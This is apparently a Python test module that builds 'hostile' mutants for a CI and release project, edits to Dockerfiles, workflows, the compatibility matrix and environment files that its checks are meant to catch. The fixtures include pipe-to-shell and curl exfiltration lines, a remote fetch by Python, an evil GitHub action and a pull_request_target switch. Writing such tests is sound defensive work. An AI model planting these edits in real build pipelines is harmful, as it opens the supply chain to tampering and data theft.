"""Mutants by hand: what a hostile stranger would plant."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator

from tests.parity_mutants.overlay import Overlay
from tests.parity_mutants.places import Mutant
from tests.unit.ci.tree import digest

WORKER = "images/edge-worker.Dockerfile"
PLANE = "images/control-plane.Dockerfile"
MATRIX = "compatibility.toml"
PLAN = "ci/rollout.toml"
STAGING, PROD, LOCAL = (f"infra/environments/{name}.toml" for name in ("staging", "prod", "local"))
PROD_RELEASE = "infra/environments/prod.release.json"
VERIFY = ".github/workflows/verify.yml"
REFUSE = '\n[[compatible]]\ncontrol_plane = "==0.1.*"\nworker = "{worker}"\nprotocol = [1]\nairflow = "==3.0.4"\ntask_sdk = "==1.0.4"\npython = ">=3.11,<3.13"\nverdict = "refuse"\n'

#: File, pattern, replacement. Each must match.
EDITS: tuple[tuple[str, str, str, str], ...] = (
    # Documentation
    ("another version in the README", "README.md", r"\Z", "\nInstall `airbridge-edge-worker==0.2.0`.\n"),
    ("another Airflow in the docs", "docs/index.md", r"\Z", "\nAirBridge runs Airflow 3.0.5.\n"),
    ("another Python in the docs", "README.md", r"\Z", "\nPython 3.13 works, too.\n"),
    (
        "an image by tag in the docs",
        "docs/how-to/build-images.md",
        r"\Z",
        "\n`docker pull ghcr.io/airbridge/edge-worker:0.1.0`\n",
    ),
    (
        "a digest in the docs",
        "docs/reference/images.md",
        r"\Z",
        "\nThe worker is sha256:" + "ab" * 32 + ".\n",
    ),
    ("a short digest in the docs", "docs/reference/images.md", r"\Z", "\nThe worker is sha256:abcdef12.\n"),
    ("an account in the docs", "docs/how-to/deploy-on-aws.md", r"\Z", "\nThe account is 444444444444.\n"),
    ("uv's version in a page", "CONTRIBUTING.md", r"\Z", "\nUse uv 0.8.\n"),
    (
        "a tool's version in a script",
        "ci/scripts/browser_tools.sh",
        r"\Z",
        "\npip install playwright==1.2.3\n",
    ),
    ("latest", "ci/scripts/browser_tools.sh", r"\Z", "\npodman pull example/thing:latest\n"),
    # Images
    (
        "a mount from a stranger's image",
        WORKER,
        r"--mount=type=bind,source=debs",
        "--mount=type=bind,from=ghcr.io/astral-sh/uv,source=debs",
    ),
    (
        "a cache mount",
        PLANE,
        r"--mount=type=bind,source=\.,target=/context",
        "--mount=type=cache,target=/context",
    ),
    (
        "a fetch by Python",
        WORKER,
        r"^ && rm -f ",
        " && python3 -c 'import urllib.request as u; u.urlretrieve(\"http://x/y\")' && rm -f ",
    ),
    ("a fetch by curl in a pipe", WORKER, r"^ && rm -f ", " && cat x | curl -d @- x && rm -f "),
    (
        "a fetch by uv",
        WORKER,
        r"--offline --python /opt/airbridge/bin/python",
        "--python /opt/airbridge/bin/python",
    ),
    ("an index for uv", PLANE, r"--no-index --find-links", "--index-url https://example.com --find-links"),
    (
        "a package without hash",
        PLANE,
        r"--requirement /context/own.txt",
        "--requirement /context/own.txt requests",
    ),
    ("a frontend of a registry", WORKER, r"\A", "# syntax=docker/dockerfile:1\n"),
    ("no health check", WORKER, r"^HEALTHCHECK .*", "HEALTHCHECK NONE"),
    ("a health check that is always well", PLANE, r"^HEALTHCHECK .*", "HEALTHCHECK CMD true"),
    ("a second user", WORKER, r"^ENTRYPOINT", "USER 0\nUSER 10001:10001\nENTRYPOINT"),
    ("a network for one step", WORKER, r"^RUN --mount", "RUN --network=host --mount"),
    ("a fixed version label", WORKER, r'image\.version="\$\{VERSION\}"', 'image.version="9.9.9"'),
    (
        "another source label",
        PLANE,
        r'image\.source="[^"]*"',
        'image.source="https://github.com/evil/airbridge"',
    ),
    ("a label twice", PLANE, r"^USER ", 'LABEL org.opencontainers.image.version="1"\nUSER '),
    ("a default of an argument", PLANE, r"^ARG AIRFLOW_VERSION$", "ARG AIRFLOW_VERSION=3.0.5"),
    ("a platform", WORKER, r"^FROM \$\{BASE_IMAGE\}", "FROM --platform=linux/amd64 ${BASE_IMAGE}"),
    ("a copy by number", WORKER, r"^USER ", "COPY --from=0 /bin /bin\nUSER "),
    ("an instruction for later", WORKER, r"^USER ", "ONBUILD RUN curl x\nUSER "),
    ("another shell", WORKER, r"^USER ", 'SHELL ["/bin/evil"]\nUSER '),
    ("another base by digest", "images/base.Dockerfile", r"782412e8", "782412e9"),
    (
        "two bases",
        "images/base.Dockerfile",
        r"\Z",
        "FROM python:3.12-slim-bookworm@sha256:" + "ab" * 32 + "\n",
    ),
    (
        "a package's hash of the other machine",
        "images/debs.toml",
        "7d1947665fa40e55f218fefad773dc6de66458d0b39eaa292cdcadfc7c996632",
        "335dee1e36c0bf61f11c9fe9740012966a3183bd50405b73ed19477293c28f7f",
    ),
    (
        "no init for one machine",
        "images/debs.toml",
        r'\n\[\[deb\]\]\nname = "tini"\nversion = ".*"\narchitecture = "arm64"\n(?:.*\n)+',
        "",
    ),
    # The matrix
    ("a refuse row behind its allow row", MATRIX, r"\Z", REFUSE.format(worker="==0.1.3")),
    ("a refuse row for nothing", MATRIX, r"\Z", REFUSE.format(worker=">1,<1")),
    ("any worker", MATRIX, r'^worker = "==0\.1\.\*"', 'worker = ">=0"'),
    ("any worker from now on", MATRIX, r'^worker = "==0\.1\.\*"', 'worker = ">=0.1"'),
    ("any but one worker", MATRIX, r'^worker = "==0\.1\.\*"', 'worker = "!=0.0.1"'),
    ("any control plane", MATRIX, r'^control_plane = "==0\.1\.\*"', 'control_plane = ">=0"'),
    ("any Python", MATRIX, r'^python = ".*"', 'python = ">=3"'),
    ("an empty range", MATRIX, r'^airflow = ".*"', 'airflow = ""'),
    ("no protocol", MATRIX, r"^protocol = .*", "protocol = []"),
    ("a protocol twice", MATRIX, r"^protocol = .*", "protocol = [1, 1]"),
    ("drain outside the matrix", MATRIX, r'^outside = "refuse"', 'outside = "drain"'),
    (
        "a row that refuses all",
        MATRIX,
        r"^\[\[compatible\]\]",
        REFUSE.format(worker="==0.1.*").strip() + "\n\n[[compatible]]",
    ),
    # Environments and releases
    (
        "a previous worker of no release",
        PROD,
        r"^(worker = .*)$",
        r"\1" + f'\nprevious_worker = "edge-worker@{digest(4242)}"',
    ),
    ("prod's account in staging", STAGING, r"222222222222", "333333333333"),
    (
        "prod's account in staging's file alone",
        STAGING,
        r'^account = "222222222222"',
        'account = "333333333333"',
    ),
    ("a certificate of another account", PROD, r"acm:us-east-1:333333333333", "acm:us-east-1:222222222222"),
    ("a certificate of another region", PROD, r"acm:us-east-1:", "acm:eu-west-1:"),
    ("local tier with any digest", LOCAL, r"^worker = .*", f'worker = "edge-worker@{digest(77)}"'),
    ("prod is local", PROD, r'^tier = "production"', 'tier = "local"'),
    ("prod is of a lower tier", PROD, r'^tier = "production"', 'tier = "development"'),
    ("prod is of no tier", PROD, r'^tier = "production"', 'tier = "other"'),
    ("prod under another's name", PROD, r'^name = "prod"', 'name = "staging"'),
    ("no soak", PLAN, r"^soak_minutes = 1440", "soak_minutes = 0"),
    ("a budget of 99 %", PLAN, r"^error_budget = 0\.02", "error_budget = 0.99"),
    ("no canary", PLAN, r'^waves = \[\["ap-southeast-2"\], \["eu-west-1"\]\]', "waves = []"),
    (
        "all regions at once",
        PLAN,
        r'^waves = \[\["ap-southeast-2"\], \["eu-west-1"\]\]',
        'waves = [["ap-southeast-2", "eu-west-1", "us-east-1", "us-west-2"]]',
    ),
    ("nobody watches", PLAN, r"^watch_minutes = 30", "watch_minutes = 0"),
    ("prod before staging", PLAN, r'^follows = "staging"', 'follows = "dev"'),
    ("a trusted key of a stranger", "images/release-keys.toml", r'^public_key = ".*"', 'public_key = "AAAA"'),
    # Pipelines
    (
        "an action's commit under its comment",
        VERIFY,
        r"checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8",
        "checkout@" + "a" * 40,
    ),
    ("an action's comment", VERIFY, r"# v5\.0\.0", "# v6.0.0"),
    (
        "an action in upper case",
        VERIFY,
        r"checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8",
        "checkout@08C6903CD8C0FDE910A37F88322EDCFB5DD907A8",
    ),
    (
        "an action nobody registered",
        VERIFY,
        r"^      - run: make chaos",
        "      - uses: evil/action@" + "b" * 40 + " # v1.0.0\n      - run: make chaos",
    ),
    (
        "an action in flow style",
        VERIFY,
        r"^      - run: make chaos",
        "      - {uses: actions/checkout@" + "b" * 40 + "}\n      - run: make chaos",
    ),
    ("no tests", VERIFY, r"^      - run: make test\n", ""),
    ("tests as text", VERIFY, r"run: make test$", "run: echo make test"),
    (
        "another step",
        VERIFY,
        r"^      - run: make chaos",
        "      - run: curl -s https://example.com | sh\n      - run: make chaos",
    ),
    ("one Python", VERIFY, r'\["3\.11", "3\.12"\]', '["3.11"]'),
    (
        "a target that pull_request_target starts",
        ".github/workflows/pull-request.yml",
        r"^  pull_request:",
        "  pull_request_target:",
    ),
    ("no tests in make", "Makefile", r"\$\(RUN\) bash ci/scripts/test\.sh .*", "true"),
    ("a version of uv that comes later", "Makefile", r"^UV := ", "UV_VERSION := 0.8.0\nUV := "),
    (
        "a parity check that is not called",
        "ci/src/airbridge/ci/parity/checks.py",
        r'^    "matrix": matrix\.check,\n',
        "",
    ),
    ("no bot for actions", ".github/dependabot.yml", r"github-actions", "gitsubmodule"),
    # Facts in code
    ("another suite of Debian", "ci/src/airbridge/ci/images/base.py", r'"bookworm"', '"trixie"'),
    ("one architecture", "ci/src/airbridge/ci/images/specs.py", r'\("amd64", "arm64"\)', '("amd64",)'),
    (
        "another protocol",
        "core/src/airbridge/core/protocol.py",
        r"^PROTOCOL_VERSION = 1",
        "PROTOCOL_VERSION = 2",
    ),
    (
        "an image typed into code",
        "control_plane/src/airbridge/control_plane/parity.py",
        r"\Z",
        '\nIMAGE = "quay.io/airbridge/worker:1.0"\n',
    ),
)


def generate(project: Overlay) -> Iterator[Mutant]:
    """All of them."""
    for what, path, pattern, replacement in EDITS:
        text = project.source(path).text
        new, count = re.subn(pattern, replacement, text, count=1, flags=re.MULTILINE)
        if not count or new == text:
            raise ValueError(f"{what}: {pattern} changes nothing in {path}")
        line = next(
            (
                n
                for n, pair in enumerate(zip(text.splitlines(), new.splitlines(), strict=False), start=1)
                if pair[0] != pair[1]
            ),
            1,
        )
        yield Mutant(f"hostile: {what}", path, line, replacement[:50], {path: new})
    yield from _files(project)
    for what, change in _RELEASES.items():
        content = json.loads(project.source(PROD_RELEASE).text)
        change(content["release"])
        text = json.dumps(content, indent=2) + "\n"
        yield Mutant(f"hostile: {what}", PROD_RELEASE, 1, what, {PROD_RELEASE: text})


def _files(project: Overlay) -> Iterator[Mutant]:
    """Files that are gone, new or no text."""
    planted = ".github/workflows/planted.yml"
    action = f"on: push\npermissions: {{}}\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@{'c' * 40} # v5.0.0\n"
    yield Mutant("hostile: a workflow nobody knows", planted, 1, "new file", {planted: action})
    yield Mutant(
        "hostile: the same with another ending",
        planted,
        1,
        "new file",
        {planted.replace(".yml", ".yaml"): action},
    )
    yield Mutant(
        "hostile: a second Dockerfile",
        "images/x.Dockerfile",
        1,
        "new file",
        {"images/x.Dockerfile": "FROM python:3.13\n"},
    )
    yield Mutant(
        "hostile: a requirements file",
        "requirements.txt",
        1,
        "new file",
        {"requirements.txt": "apache-airflow==3.0.6\n"},
    )
    yield Mutant("hostile: a version file", ".python-version", 1, "new file", {".python-version": "3.13.1\n"})
    yield Mutant(
        "hostile: a release of no environment",
        "infra/environments/qa.release.json",
        1,
        "renamed",
        {"infra/environments/qa.release.json": project.source(PROD_RELEASE).text},
    )
    for path in (
        PROD_RELEASE,
        PLAN,
        MATRIX,
        "images/debs.toml",
        "images/base.Dockerfile",
        VERIFY,
        "uv.lock",
        "ci/pipelines.toml",
        PROD,
        STAGING,
    ):
        yield Mutant("hostile: a file is gone", path, 1, "removed", {path: None})


def _set(path: str, value: object) -> Callable[[dict[str, object]], None]:
    def change(release: dict[str, object]) -> None:
        *keys, last = path.split("/")
        at: dict[str, object] = release
        for key in keys:
            inner = at[key]
            assert isinstance(inner, dict)
            at = inner
        at[last] = value

    return change


def _drop_arm(release: dict[str, object]) -> None:
    images = release["images"]
    assert isinstance(images, dict)
    for image in images.values():
        del image["parts"]["arm64"]


_RELEASES: dict[str, Callable[[dict[str, object]], None]] = {
    "a release for one machine": _drop_arm,
    "the Debian base in prod": _set("base", "debian-bookworm-packages@" + digest(9)),
    "the same revision with other digests": _set("images/edge-worker/digest", digest(99)),
    "another commit": _set("revision", "d" * 40),
    "another time": _set("committed_at", "2027-01-01T00:00:00Z"),
    "another Airflow": _set("versions/airflow", "3.0.5"),
    "another SBOM": _set("images/edge-worker/parts/amd64/sbom", digest(98)),
}
